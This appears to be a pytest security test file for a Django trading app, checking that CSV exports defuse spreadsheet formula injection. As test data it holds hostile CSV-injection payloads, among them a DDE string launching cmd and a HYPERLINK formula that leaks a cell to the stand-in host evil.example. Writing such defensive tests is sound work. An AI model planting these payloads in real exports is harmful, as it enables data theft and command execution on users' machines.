"""CSV injection (OWASP): every CSV the project writes (the signals, approvals
and audit exports, and the console's approvals export) is opened by traders
and staff in a spreadsheet, and holds text that attackers choose (a failed
login's username, a User-Agent, a decision's reason). A cell a spreadsheet
would run as a formula reaches the file with a leading `'`; a plain number,
negative or not, stays a number."""

import csv
import io

import pytest
from django.urls import reverse

from approvals.models import Approval
from signals.models import Producer
from tests.security.conftest import bearer

pytestmark = pytest.mark.django_db

DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click to fix")'
# Text a spreadsheet would run, and what the CSV cell must be.
DEFUSED = {
    DDE: "'" + DDE,
    HYPERLINK: "'" + HYPERLINK,
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "-1.5+A1": "'-1.5+A1",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "   =1+1": "'   =1+1",
    "\n@SUM(A1:A9)": "'\n@SUM(A1:A9)",
    "\uff1d1+1": "'\uff1d1+1",  # full-width equals sign
    "-": "'-",
}
# Text no spreadsheet runs: written as is.
LEFT_AS_IS = ["-1.5", "+3", "-2.5e-3", " -40", "1.08450", "take profit at 1.0900", "a=b", "'quoted"]


def read_csv(response) -> list[dict]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"), newline="")))


def test_a_failed_login_with_a_formula_for_a_username_and_user_agent_is_defused_in_the_audit_csv(anon, operator):
    response = anon.post("/api/v1/auth/token/", {"username": DDE, "password": "guess"}, format="json",
                         HTTP_USER_AGENT=HYPERLINK)
    assert response.status_code == 401
    [row] = [row for row in read_csv(bearer(operator).get("/api/v1/audit/export.csv"))
             if row["action"] == "auth.login" and row["status"] == "failure"]
    assert (row["actor"], row["user_agent"]) == ("'" + DDE, "'" + HYPERLINK)
    assert row["meta"] == '{"username":"@SUM(1+1)*cmd|\' /C calc\'!A0"}'  # starts with "{": nothing to defuse


@pytest.fixture
def reasons(alice, alice_engine, consent_version):
    """One decision of alice's per hostile or harmless reason, sent through the API."""
    for reason in [*DEFUSED, *LEFT_AS_IS]:
        signal = alice_engine.signal()
        assert signal.status_code == 201
        response = bearer(alice).post("/api/v1/approvals/", {"signal": signal.json()["id"], "decision": "approved",
                                                             "consent_version": consent_version, "reason": reason},
                                      format="json", HTTP_USER_AGENT=reason)
        assert response.status_code == 201, response.content
    return {approval.reason: approval.user_agent for approval in Approval.objects.all()}


def test_the_approvals_csv_defuses_formulas_and_keeps_numbers(alice, reasons):
    rows = read_csv(bearer(alice).get("/api/v1/approvals/export.csv"))
    written = {row["reason"] for row in rows} | {row["user_agent"] for row in rows}
    assert written == {DEFUSED.get(text, text) for text in [*reasons, *reasons.values()]}
    assert {"'" + DDE, "'   =1+1", "-1.5", " -40"} <= written


def test_the_consoles_approvals_csv_defuses_formulas(client, superuser, reasons):
    client.force_login(superuser)
    selected = list(Approval.objects.values_list("pk", flat=True))
    rows = read_csv(client.post(reverse("admin:approvals_approval_changelist"),
                                {"action": "export_csv", "_selected_action": selected}))
    assert {row["user_agent"] for row in rows} == {DEFUSED.get(text, text) for text in reasons.values()}


def test_the_signals_csv_defuses_formulas(alice, alice_signal):
    Producer.objects.filter(name="alice-engine").update(name="  =HYPERLINK(1)")
    [row] = read_csv(bearer(alice).get("/api/v1/signals/export.csv"))
    assert row["producer"] == "'  =HYPERLINK(1)"
    assert row["entry_price"] == "1.08450"
